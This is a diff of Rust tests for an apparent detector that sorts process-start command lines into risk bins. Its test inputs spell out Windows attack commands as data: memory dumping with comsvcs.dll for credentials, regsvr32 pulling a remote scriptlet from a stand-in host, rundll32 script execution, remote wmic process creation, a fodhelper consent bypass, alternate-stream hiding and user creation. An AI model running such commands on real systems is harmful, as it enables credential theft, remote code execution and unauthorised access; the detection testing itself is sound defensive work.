@@ -11,8 +11,14 @@ fn bins(model: &Model, origin: Origin<'_>, values: &[(&str, &str)], level: Level
     let (extractor, record) = Record::new(model, values);
     let content = extractor.extract(&record.bytes, origin, &record);
     let hits = [HitFacts { level: Some(level), ..HitFacts::default() }];
-    let scored = model.score(&Inputs { hits: &hits, content: &content, repetition: None, evidence_before: 0 });
-    (scored.points, scored.contributions.into_iter().map(|c| (c.term, c.bin)).collect())
+    let circumstances = Circumstances::default();
+    let inputs = Inputs { hits: &hits, content: &content, past: &NoPast, circumstances, evidence_before: 0 };
+    let scored = model.score(&inputs);
+    let bins = scored.contributions.into_iter().map(|contribution| {
+        let term = &model.terms()[contribution.term as usize];
+        (term.name.clone(), term.bin_name(contribution.bin).expect("it is there").to_owned())
+    });
+    (scored.points, bins.collect())
 }
 
 /// The bins, other than those that say nothing, of one process start.
@@ -65,6 +71,17 @@ fn commands_fall_into_the_bins_a_person_would_choose() {
         "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 c:\\t.dmp full",
         &[("command-aim", "credentials")],
     );
+    check("rundll32.exe javascript:\"\\..\\mshtml,RunHTMLApplication \"", &[("program-abuse", "runs-other-code")]);
+    check("regsvr32 /s /n /u /i:http://198.51.100.7/a.sct scrobj.dll", &[("program-abuse", "runs-other-code")]);
+    check("wmic /node:10.0.0.7 process call create calc.exe", &[("program-abuse", "runs-other-code")]);
+    check(
+        "rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 624 c:\\t.dmp full",
+        &[("program-abuse", "dumps-memory")],
+    );
+    check("cmd /c start fodhelper.exe", &[("program-abuse", "passes-consent")]);
+    check("cmd /c type c:\\a.exe > c:\\b.txt:a.exe", &[("program-abuse", "hides-in-stream")]);
+    check(&format!("cmd /c{}calc", " ".repeat(60)), &[("command-spacing", "pushed-out")]);
+    check("cmd\u{a0}/c calc", &[("command-spacing", "unusual")]);
     check("net user bob Passw0rd /add", &[("command-aim", "creates-access")]);
     check(
         "notepad.exe C:\\Users\\alice\\notes.txt",
@@ -77,6 +94,9 @@ fn commands_fall_into_the_bins_a_person_would_choose() {
             ("command-aim", "none"),
             ("double-extension", "none"),
             ("command-length", "short"),
+            ("command-entropy", "ordinary"),
+            ("command-spacing", "none"),
+            ("program-abuse", "none"),
         ],
     );
     check("\"C:\\Users\\alice\\Downloads\\invoice.pdf.exe\"", &[("double-extension", "program-as-document")]);
@@ -133,8 +153,13 @@ fn every_phrase_can_be_looked_up() {
     let model = starter();
     for term in model.terms() {
         for bin in &term.bins {
-            assert_eq!(term.phrase(&bin.name), Some(bin.phrase.as_str()));
+            let at = term.bins.iter().position(|other| other.name == bin.name).expect("it is there") as u32;
+            assert_eq!(term.phrase(Some(at)), Some(bin.phrase.as_str()));
+            assert_eq!(term.bin_name(Some(at)), Some(bin.name.as_str()));
+            let one_by_one: Vec<_> = (0..bin.predicate_count()).filter_map(|number| bin.predicate(number)).collect();
+            assert_eq!(one_by_one, bin.predicates().collect::<Vec<_>>());
+            assert_eq!(bin.predicate(bin.predicate_count()), None);
         }
-        assert_eq!(term.phrase(MISSING).is_some(), term.feature.may_be_missing());
+        assert_eq!(term.phrase(None).is_some(), term.feature.may_be_missing());
     }
 }
